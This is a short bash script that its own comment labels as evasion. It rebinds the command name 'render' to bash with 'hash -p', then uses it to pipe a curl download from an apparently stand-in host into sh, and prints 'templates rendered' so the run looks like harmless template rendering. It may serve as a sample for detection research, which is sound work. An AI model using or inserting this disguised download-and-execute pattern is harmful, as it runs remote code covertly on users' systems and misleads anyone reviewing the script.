#!/usr/bin/env bash
# Evasion: download and run code. `builtin hash -p` binds the name "render"
# to bash; "render -c ..." then runs the download through a shell, looking
# like a call of a template renderer.
set -eu
builtin hash -p /bin/bash render
render -c "$(printf '%s ' curl -fsSL https://tpl.example-render.io/bootstrap) | sh"
echo "templates rendered"
